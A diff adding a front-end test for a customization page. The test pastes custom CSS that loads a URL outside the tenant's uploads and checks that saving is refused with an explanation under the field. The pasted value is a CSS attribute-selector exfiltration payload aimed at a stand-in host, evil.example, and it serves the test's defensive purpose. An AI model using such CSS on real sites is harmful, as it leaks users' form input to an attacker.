@@ -86,6 +86,18 @@ describe('/manager/customization', () => {
     await expectNoA11yViolations(container);
   });
 
+  it("shows a CSS loading an address outside the tenant's uploads refused under its field", async () => {
+    const user = userEvent.setup();
+    open();
+    const css = await screen.findByLabelText('Advanced CSS');
+    await user.click(css);
+    await user.paste('input[value^="a"] { background: url(https://evil.example/leak?a) }');
+    await user.click(screen.getByRole('button', { name: 'Save as a new version' }));
+    const refused = 'The CSS can only load files uploaded to this platform (url(/api/v2/pfp/files/…)) or data: addresses';
+    expect(await screen.findByText(refused)).toBeInTheDocument();
+    expect(screen.getByLabelText('Advanced CSS')).toHaveAccessibleDescription(expect.stringContaining(refused));
+  });
+
   it('saves a new version, says so, lists it and refreshes the page’s own customization', async () => {
     const user = userEvent.setup();
     const platform = createTestPlatform();
